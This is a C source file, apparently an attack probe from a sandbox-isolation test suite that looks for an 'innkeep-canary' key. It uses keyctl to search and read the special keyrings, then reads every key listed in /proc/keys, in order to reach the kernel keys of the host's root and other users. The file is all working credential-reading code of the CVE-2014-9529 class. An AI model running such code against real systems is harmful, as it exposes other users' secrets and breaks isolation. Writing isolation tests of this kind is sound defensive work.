/* Reads the keys of the host's root, and of everybody whose number it guesses (keyctl(2), keyrings(7); CVE-2014-9529's class). */
#include "common/attack.h"

static void attempt(void) {
    char bytes[4096];
    for (int ring = -8; ring < 0; ring++) {
        long found = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, ring, "user", "innkeep-canary", 0);
        long len = syscall(SYS_keyctl, 11 /* KEYCTL_READ */, found > 0 ? found : ring, bytes, sizeof bytes);
        printf("ring %d: %ld %s %.*s\n", ring, found, strerror(errno), len > 0 ? (int)len : 0, bytes);
    }
    show("/proc/keys");
    show("/proc/key-users");
    FILE *keys = fopen("/proc/keys", "r");
    char line[512];
    unsigned serial;
    while (keys && fgets(line, sizeof line, keys)) {
        if (sscanf(line, "%x", &serial) == 1) {
            long len = syscall(SYS_keyctl, 11, serial, bytes, sizeof bytes);
            printf("key %x: %.*s\n", serial, len > 0 ? (int)len : 0, bytes);
        }
    }
}
